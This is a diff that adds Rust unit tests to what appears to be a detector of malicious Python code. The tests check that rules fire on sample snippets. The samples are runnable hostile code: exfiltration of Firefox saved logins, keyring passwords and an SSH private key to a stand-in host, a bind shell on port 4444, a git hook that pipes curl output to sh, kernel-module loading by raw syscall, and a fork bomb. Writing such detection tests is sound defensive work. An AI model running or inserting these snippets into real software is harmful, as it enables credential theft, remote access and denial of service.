@@ -411,3 +411,47 @@ fn fetched_code_run_from_an_unnamed_file_or_stdin_is_download_execute() {
         "import tempfile, subprocess, requests\ndata = requests.get('https://h.example/d.zip').content\nwith tempfile.NamedTemporaryFile(suffix='.zip', delete=False) as tmp:\n    tmp.write(data)\nsubprocess.run(['unzip', '-o', tmp.name, '-d', 'data'])\nsubprocess.run(['python3', '-'], input='print(1)', text=True)\n",
     );
 }
+
+#[test]
+fn browser_stores_keyrings_and_archived_keys_sent_out_are_exfiltration() {
+    // Saved browser passwords, the desktop keyring, and a key packed into an archive that
+    // is then sent are secrets leaving the machine.
+    fires(
+        "CRD109",
+        "import os, glob, requests\nfor p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*/logins.json')):\n    requests.post('http://h.example/u', data=open(p, 'rb').read())\n",
+    );
+    fires(
+        "CRD109",
+        "import keyring, requests\npw = keyring.get_password('github', 'me')\nrequests.post('http://h.example/u', data={'p': pw})\n",
+    );
+    fires(
+        "CRD109",
+        "import io, os, socket, zipfile\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as zf:\n    zf.write(os.path.expanduser('~/.ssh/id_ed25519'), arcname='k')\nsocket.create_connection(('h.example', 7000)).sendall(buf.getvalue())\n",
+    );
+}
+
+#[test]
+fn bind_shells_git_hooks_syscalls_by_number_and_endless_iter_loops() {
+    // A shell wired to an accepted connection; a script dropped into .git/hooks; a kernel
+    // module loaded through syscall(313); forking in `for _ in iter(int, 1)`.
+    fires(
+        "CRD101",
+        "import os, pty, socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, _ = s.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\npty.spawn('/bin/sh')\n",
+    );
+    fires(
+        "CRD105",
+        "import os, stat\nhook = os.path.join('project', '.git', 'hooks', 'post-checkout')\nwith open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s http://h.example/x | sh\\n')\nos.chmod(hook, 0o755)\n",
+    );
+    fires(
+        "CRD106",
+        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfd = os.open('/tmp/m.ko', os.O_RDONLY)\nlibc.syscall(313, fd, b'', 0)\n",
+    );
+    fires(
+        "CRD111",
+        "import os\nfor _ in iter(int, 1):\n    os.fork()\n",
+    );
+    silent(
+        "CRD101",
+        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8000))\ns.listen()\nc, _ = s.accept()\nc.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nhi')\n",
+    );
+}
